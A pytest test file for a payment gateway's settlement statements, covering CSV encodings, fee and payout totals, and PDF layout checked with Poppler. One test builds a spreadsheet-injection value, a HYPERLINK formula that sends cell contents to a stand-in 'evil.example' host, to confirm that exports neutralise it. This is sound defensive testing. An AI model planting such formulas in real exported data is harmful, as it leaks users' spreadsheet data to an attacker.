"""Settlement statements: the CSVs read back with :mod:`csv`, the PDF with Poppler.

The settlement is made by :func:`gateway.money.fees.settle` from a two-plan contract and a
tally, so the lines are the real ones. The PDFs are read back as in ``test_receipts.py``:
``pdftoppm`` renders them, ``pdftotext`` gives back their text, ``pdfinfo`` counts pages (Debian
``poppler-utils`` and ``poppler-data``). A missing tool fails the test; it is not skipped.
"""

from __future__ import annotations

import codecs
import csv
import dataclasses
import io
import re
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest

from gateway.fee_model import (
    ChannelRates,
    Contract,
    Cycle,
    DailyCollection,
    FeePlan,
    LineKind,
    Rounding,
    SettledPayment,
    Settlement,
    Tally,
)
from gateway.model import JST, Channel
from gateway.money.fees import payout_date, settle
from gateway.money.statements import (
    DAILY_COLUMNS,
    FOOTNOTE,
    MARGIN,
    PAYMENT_COLUMNS,
    STATEMENT_COLUMNS,
    daily_report_csv,
    payments_csv,
    statement_csv,
    statement_pdf,
)
from gateway.render.pdf import yen
from tests.render.test_receipts import page_count, png_size, run, text_of, words, write

BILLER = "株式会社みなと電力"
A4_POINTS = (595.2756, 841.8898)

PLANS = (
    FeePlan(
        effective_from=date(2026, 10, 1),
        cycle=Cycle.TWICE_MONTHLY,
        payout_days=2,
        settlement_fee=1000,
        tax_rate=10,
        tax_rounding=Rounding.FLOOR,
        rates={
            Channel.CVS: ChannelRates(per_payment=60, per_uncollected=10, stamp_charge=200),
            Channel.PAYEASY: ChannelRates(per_payment=80),
            Channel.TRANSFER: ChannelRates(per_payment=40),
        },
    ),
    FeePlan(  # from the 10th of December, dearer convenience-store payments
        effective_from=date(2026, 12, 10),
        cycle=Cycle.TWICE_MONTHLY,
        payout_days=2,
        settlement_fee=1500,
        tax_rate=10,
        tax_rounding=Rounding.FLOOR,
        rates={
            Channel.CVS: ChannelRates(per_payment=70, per_uncollected=10, stamp_charge=200),
            Channel.PAYEASY: ChannelRates(per_payment=80),
            Channel.TRANSFER: ChannelRates(per_payment=40),
        },
    ),
)
CONTRACT = Contract(PLANS)
PERIOD = (date(2026, 12, 1), date(2026, 12, 15))
TALLY = Tally(
    collected={
        (Channel.CVS, 0): (120, 643_200),
        (Channel.CVS, 1): (85, 512_750),
        (Channel.PAYEASY, 0): (30, 321_000),
        (Channel.TRANSFER, 1): (64, 350_400),
    },
    stamped={(Channel.CVS, 0): 3, (Channel.CVS, 1): 2},
    uncollected={(Channel.CVS, 0): 14},
    refunds=(1, 5400),
)


def make_settlement(tally: Tally = TALLY, settlement_id: str = "ST-2026-12-0001") -> Settlement:
    lines, totals = settle(CONTRACT, PERIOD, tally)
    return Settlement(
        settlement_id=settlement_id,
        biller_id="B0001",
        period_start=PERIOD[0],
        period_end=PERIOD[1],
        cycle=Cycle.TWICE_MONTHLY,
        payout_date=payout_date(CONTRACT.plan_on(PERIOD[1]), PERIOD[1]),
        totals=totals,
        lines=tuple(lines),
        created_at=datetime(2026, 12, 15, 16, 0, tzinfo=UTC),  # 01:00 JST on the 16th
    )


SETTLEMENT = make_settlement()


CHAINS = (
    *((Channel.CVS, chain) for chain in ("ローソン", "ファミリーマート", "セブン-イレブン")),
    *((Channel.CVS, chain) for chain in ("ミニストップ", "デイリーヤマザキ", "セイコーマート")),
    *((Channel.PAYEASY, bank) for bank in ("0005", "0009", "0001", "0010")),
    *((Channel.TRANSFER, bank) for bank in ("0005", "0009", "0001", "0017")),
)


def daily_rows(count: int) -> list[DailyCollection]:
    """``count`` rows, every chain on every day from the period's first: 14 rows a day."""
    rows = []
    for n in range(count):
        channel, chain = CHAINS[n % len(CHAINS)]
        day = PERIOD[0] + timedelta(days=n // len(CHAINS))
        rows.append(DailyCollection(day, channel, chain, 10 + n, (10 + n) * 5400, 9 + n, 0))
    return rows


# --- reading back ------------------------------------------------------------------------------


def read_csv(data: bytes, codec: str) -> list[list[str]]:
    text = data.decode(codec)
    assert "\r\n" in text and "\n" not in text.replace("\r\n", ""), "lines must end with CRLF"
    return list(csv.reader(io.StringIO(text, newline="")))


def table_of(rows: list[list[str]]) -> list[dict[str, str]]:
    """The rows after the blank row, keyed by the column header."""
    start = rows.index([]) + 1
    assert tuple(rows[start]) == STATEMENT_COLUMNS
    return [dict(zip(STATEMENT_COLUMNS, row, strict=True)) for row in rows[start + 1 :]]


# --- the settlement itself (what the statements print) ----------------------------------------


def test_the_settlement_is_a_real_one() -> None:
    kinds = {line.kind for line in SETTLEMENT.lines}
    assert {LineKind.COLLECTION, LineKind.PAYMENT_FEE, LineKind.UNCOLLECTED_FEE} <= kinds
    assert {LineKind.SETTLEMENT_FEE, LineKind.TAX, LineKind.STAMP_DUTY, LineKind.REFUND} <= kinds
    assert SETTLEMENT.totals.collected == 643_200 + 512_750 + 321_000 + 350_400
    assert SETTLEMENT.totals.payout == sum(line.amount for line in SETTLEMENT.lines)
    assert SETTLEMENT.totals.payout > 1_000_000  # so the PDF shows a ¥1,234,567 figure


# --- statement CSV -----------------------------------------------------------------------------


def test_utf8_statement_has_a_bom_and_sums_to_the_payout() -> None:
    data = statement_csv(SETTLEMENT, BILLER, "utf-8")
    assert data.startswith(codecs.BOM_UTF8)
    assert not data[3:].startswith(codecs.BOM_UTF8)
    rows = read_csv(data, "utf-8-sig")

    head = {row[0]: row[1] for row in rows[: rows.index([])]}
    assert head["精算番号"] == "ST-2026-12-0001"
    assert head["請求者"] == BILLER
    assert head["対象期間"] == "2026-12-01〜2026-12-15"
    assert head["支払予定日"] == SETTLEMENT.payout_date.isoformat() == "2026-12-17"
    assert head["支払金額"] == str(SETTLEMENT.totals.payout)

    table = table_of(rows)
    *lines, total = table
    assert len(lines) == len(SETTLEMENT.lines)
    assert [int(r["No"]) for r in lines] == list(range(1, len(lines) + 1))
    assert sum(int(r["金額"]) for r in lines) == SETTLEMENT.totals.payout
    assert total["区分"] == "合計" and int(total["金額"]) == SETTLEMENT.totals.payout
    for row in table:
        assert re.fullmatch(r"-?\d*", row["金額"] + row["単価"] + row["数量"]), row

    first = lines[0]
    assert first == {
        "No": "1",
        "区分": "収納金",
        "チャネル": "コンビニ収納",
        "摘要": "コンビニ収納 収納金",
        "数量": "205",
        "単価": "",
        "金額": str(643_200 + 512_750),
    }
    kinds = [r["区分"] for r in lines]
    assert {"収納手数料", "未収納手数料", "精算手数料", "消費税", "印紙税相当額", "返金"} <= set(
        kinds
    )
    fee = next(r for r in lines if r["区分"] == "収納手数料" and r["単価"] == "70")
    assert fee["チャネル"] == "コンビニ収納" and fee["数量"] == "85" and fee["金額"] == "-5950"
    refund = next(r for r in lines if r["区分"] == "返金")
    assert refund["チャネル"] == "" and refund["金額"] == "-5400"


def test_shift_jis_statement_has_the_same_rows() -> None:
    utf8 = read_csv(statement_csv(SETTLEMENT, BILLER, "utf-8"), "utf-8-sig")
    data = statement_csv(SETTLEMENT, BILLER, "shift_jis")
    assert not data.startswith(codecs.BOM_UTF8)
    sjis = read_csv(data, "cp932")
    # CP932 has one wave dash: 〜 (U+301C) is written as its ～ (U+FF5E), not as 〓.
    assert sjis == [[cell.replace("〜", "～") for cell in row] for row in utf8]
    assert ["対象期間", "2026-12-01～2026-12-15"] in sjis
    assert any("（2026-12-10～の料金）" in row[3] for row in sjis if len(row) == 7)
    assert "〓".encode("cp932") not in data


def test_characters_cp932_lacks_become_geta_and_the_rest_survive() -> None:
    name = "𠮷野商店①号店～髙橋😀 ¥—"
    rows = read_csv(statement_csv(SETTLEMENT, name, "shift_jis"), "cp932")
    assert rows[1] == ["請求者", "〓野商店①号店～髙橋〓 ￥―"]
    rows = read_csv(statement_csv(SETTLEMENT, name, "utf-8"), "utf-8-sig")
    assert rows[1] == ["請求者", name]


def test_a_name_a_spreadsheet_would_run_is_kept_as_text() -> None:
    rows = read_csv(statement_csv(SETTLEMENT, "=HYPERLINK(1)", "utf-8"), "utf-8-sig")
    assert rows[1] == ["請求者", "'=HYPERLINK(1)"]


@pytest.mark.parametrize("encoding", ["latin-1", "UTF-8", "cp932", "utf-8-sig", "sjis", ""])
def test_other_encodings_are_refused(encoding: str) -> None:
    for render in (
        lambda: statement_csv(SETTLEMENT, BILLER, encoding),
        lambda: payments_csv([], encoding),
        lambda: daily_report_csv([], encoding),
    ):
        with pytest.raises(ValueError, match=r"utf-8, shift_jis"):
            render()


def test_a_shortfall_is_carried_to_the_next_statement() -> None:
    short = make_settlement(dataclasses.replace(TALLY, carried_in=2_000_000), "ST-2026-12-0002")
    assert short.totals.payout == 0
    rows = read_csv(statement_csv(short, BILLER, "utf-8"), "utf-8-sig")
    *lines, total = table_of(rows)
    assert sum(int(r["金額"]) for r in lines) == 0 == int(total["金額"])
    carried = {r["区分"]: int(r["金額"]) for r in lines if r["区分"].endswith("繰越")}
    assert carried["前回繰越"] == -2_000_000
    assert carried["次回繰越"] == short.totals.carried_out > 0


# --- payments CSV ------------------------------------------------------------------------------

PAYMENTS = [
    SettledPayment(
        payment_id="P000001",
        bill_no="INV-2026-000123",
        channel=Channel.CVS,
        amount=5400,
        paid_at=datetime(2026, 11, 30, 23, 30, tzinfo=UTC),  # 08:30 JST on 1 December
        confirmed_at=datetime(2026, 12, 3, 10, 0, 5, 123456, tzinfo=JST),
        stamped=False,
        place="ローソン 012345",
    ),
    SettledPayment(
        payment_id="P000002",
        bill_no=None,
        channel=Channel.PAYEASY,
        amount=60_000,
        paid_at=datetime(2026, 12, 2, 12, 0, tzinfo=JST),
        confirmed_at=datetime(2026, 12, 2, 3, 1, tzinfo=UTC),
        stamped=True,
        place=None,
    ),
]


def test_payments_csv_keeps_formulas_as_text_and_amounts_as_numbers() -> None:
    """A bill_no or a place a spreadsheet would run (issue 14, finding 13) is written as text;
    amounts are the gateway's own integers, so a negative one stays a number."""
    link = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    attack = dataclasses.replace(PAYMENTS[0], bill_no=link, place="@SUM(A1:A9)", amount=-5400)
    rows = read_csv(payments_csv([attack, PAYMENTS[1]], "utf-8"), "utf-8-sig")
    record = dict(zip(PAYMENT_COLUMNS, rows[1], strict=True))
    assert record["bill_no"] == "'" + link
    assert record["place"] == "'@SUM(A1:A9)"
    assert record["amount"] == "-5400"
    assert rows[2][1] == ""  # no bill_no: an empty cell


@pytest.mark.parametrize(("encoding", "codec"), [("utf-8", "utf-8-sig"), ("shift_jis", "cp932")])
def test_payments_round_trip_from_a_generator(encoding: str, codec: str) -> None:
    consumed: list[str] = []

    def stream() -> Iterator[SettledPayment]:
        for p in PAYMENTS:
            consumed.append(p.payment_id)
            yield p

    rows = read_csv(payments_csv(stream(), encoding), codec)
    assert consumed == ["P000001", "P000002"]
    assert tuple(rows[0]) == PAYMENT_COLUMNS
    records = [dict(zip(PAYMENT_COLUMNS, row, strict=True)) for row in rows[1:]]
    assert sum(int(r["amount"]) for r in records) == 65_400
    assert records[0] == {
        "payment_id": "P000001",
        "bill_no": "INV-2026-000123",
        "channel": "cvs",
        "amount": "5400",
        "paid_at": "2026-12-01T08:30:00+09:00",
        "confirmed_at": "2026-12-03T10:00:05+09:00",
        "stamped": "0",
        "place": "ローソン 012345",
    }
    second = records[1]
    assert (second["bill_no"], second["channel"], second["place"]) == ("", "payeasy", "")
    assert second["confirmed_at"] == "2026-12-02T12:01:00+09:00" and second["stamped"] == "1"
    for r in records:
        assert datetime.fromisoformat(r["paid_at"]).utcoffset() == timedelta(hours=9)


def test_no_payments_is_a_header() -> None:
    assert (
        payments_csv(iter(()), "utf-8")
        == codecs.BOM_UTF8 + (",".join(PAYMENT_COLUMNS) + "\r\n").encode()
    )


def test_a_naive_timestamp_is_refused() -> None:
    naive = dataclasses.replace(PAYMENTS[0], paid_at=datetime(2026, 12, 1, 8, 30))
    with pytest.raises(ValueError, match="naive"):
        payments_csv([naive], "utf-8")


# --- daily report CSV --------------------------------------------------------------------------


def test_daily_report() -> None:
    report = daily_rows(16)
    rows = read_csv(daily_report_csv(iter(report), "shift_jis"), "cp932")
    assert tuple(rows[0]) == DAILY_COLUMNS
    assert rows[1] == ["2026-12-01", "コンビニ収納", "ローソン", "10", "54000", "9", "0"]
    assert rows[7] == ["2026-12-01", "Pay-easy", "0005", "16", "86400", "15", "0"]
    assert rows[11] == ["2026-12-01", "口座振替", "0005", "20", "108000", "19", "0"]
    assert rows[15][0] == "2026-12-02"
    assert sum(int(r[4]) for r in rows[1:]) == sum(d.amount for d in report)
    assert read_csv(daily_report_csv(report, "utf-8"), "utf-8-sig") == rows


# --- PDF ---------------------------------------------------------------------------------------


def test_pdf_renders_to_a4_pages(tmp_path: Path) -> None:
    pdf = write(tmp_path, statement_pdf(SETTLEMENT, BILLER, daily_rows(28)))
    run("pdftoppm", "-r", "50", "-png", pdf, tmp_path / "page")
    images = sorted(tmp_path.glob("page*.png"))
    assert len(images) == page_count(pdf) == 2
    for image in images:
        width, height = png_size(image)
        assert abs(width - 413) <= 1 and abs(height - 585) <= 1, (width, height)  # A4, 50 dpi
        assert image.stat().st_size > 8000  # a page of text, not a blank one


def test_pdf_text_reads_back(tmp_path: Path) -> None:
    daily = daily_rows(6)
    text = text_of(write(tmp_path, statement_pdf(SETTLEMENT, BILLER, daily)))
    t = SETTLEMENT.totals
    payout = yen(t.payout)
    assert re.fullmatch(r"¥\d{1,3}(,\d{3})+", payout)

    assert "精算明細書" in text
    assert re.search(rf"{BILLER}\s+御中", text)
    assert re.search(r"精算番号\s+ST-2026-12-0001", text)
    assert re.search(r"作成日\s+2026年12月16日", text)  # created at 01:00 JST
    assert re.search(r"対象期間\s+2026年12月1日 〜 2026年12月15日", text)
    assert re.search(r"支払予定日\s+2026年12月17日", text)
    assert re.search(rf"支払金額\s+{payout}\n", text)
    assert re.search(rf"収納金合計（299件）\s+{yen(t.collected)}", text)
    assert re.search(rf"手数料（税抜）\s+{yen(-t.fees)}", text)
    assert re.search(rf"消費税\s+{yen(-t.tax)}", text)
    assert re.search(r"印紙税相当額（5件）\s+-¥1,000", text)
    assert re.search(r"返金\s+-¥5,400", text)
    assert re.search(r"前回繰越\s+¥0", text) and re.search(r"次回繰越\s+¥0", text)
    assert len(re.findall(rf"{payout}", text)) >= 3  # box, totals, the lines' 合計 row

    assert re.search(r"No\s+摘要\s+数量\s+単価\s+金額", text)
    assert re.search(r"1\s+コンビニ収納 収納金\s+205\s+¥1,155,950", text)
    assert re.search(r"コンビニ収納 収納手数料（2026-12-10〜の料金）\s+85\s+¥70\s+-¥5,950", text)
    assert re.search(r"精算手数料\s+1\s+¥1,500\s+-¥1,500", text)
    assert re.search(rf"合計\s+{payout}", text)

    assert "日別収納実績" in text
    assert re.search(r"日付\s+チャネル\s+チェーン/金融機関\s+件数\s+金額", text)
    assert re.search(r"2026年12月1日\s+コンビニ収納\s+ファミリーマート\s+11\s+¥59,400", text)
    assert FOOTNOTE in text


def test_pdf_without_daily_rows_has_no_daily_table(tmp_path: Path) -> None:
    text = text_of(write(tmp_path, statement_pdf(SETTLEMENT, BILLER)))
    assert "日別収納実績" not in text and "精算明細書" in text


def test_many_daily_rows_run_over_pages_inside_the_margins(tmp_path: Path) -> None:
    daily = daily_rows(200)
    long_name = "株式会社みなと電力サービス・ホールディングス関東支社" * 3
    pdf = write(tmp_path, statement_pdf(SETTLEMENT, long_name, daily))
    pages = page_count(pdf)
    assert pages >= 4  # about 45 rows a page
    text = text_of(pdf)
    assert text.count("\f") >= pages - 1
    assert (daily[-1].day, daily[-1].chain, daily[-1].count) == (
        date(2026, 12, 15),
        "ミニストップ",
        209,
    )
    assert re.search(r"2026年12月15日\s+コンビニ収納\s+ミニストップ\s+209\s+¥1,128,600", text)
    body = text.split("\f")
    for number, page in enumerate(body[1:pages], start=2):
        assert "精算明細書（続き）" in page and "チェーン/金融機関" in page, number
        assert f"{number} ページ" in page
    assert "…" in text  # the long name is cut, not drawn past the margin
    width, _ = A4_POINTS
    for x_min, _, x_max, _, word in words(pdf):
        assert x_min >= MARGIN - 0.5 and x_max <= width - MARGIN + 0.5, (word, x_min, x_max)


def test_many_lines_run_over_pages(tmp_path: Path) -> None:
    lines = SETTLEMENT.lines * 30  # only the layout is checked here: these do not add up
    s = dataclasses.replace(SETTLEMENT, lines=lines)
    pdf = write(tmp_path, statement_pdf(s, BILLER))
    assert page_count(pdf) >= 4
    text = text_of(pdf)
    assert re.search(rf"\b{len(lines)}\s+返金", text)


def test_same_input_same_bytes() -> None:
    daily = daily_rows(50)
    first = statement_pdf(SETTLEMENT, BILLER, daily)
    assert statement_pdf(dataclasses.replace(SETTLEMENT), BILLER, list(daily)) == first
    other = make_settlement(dataclasses.replace(TALLY, refunds=(1, 5401)))
    assert statement_pdf(other, BILLER, daily) != first
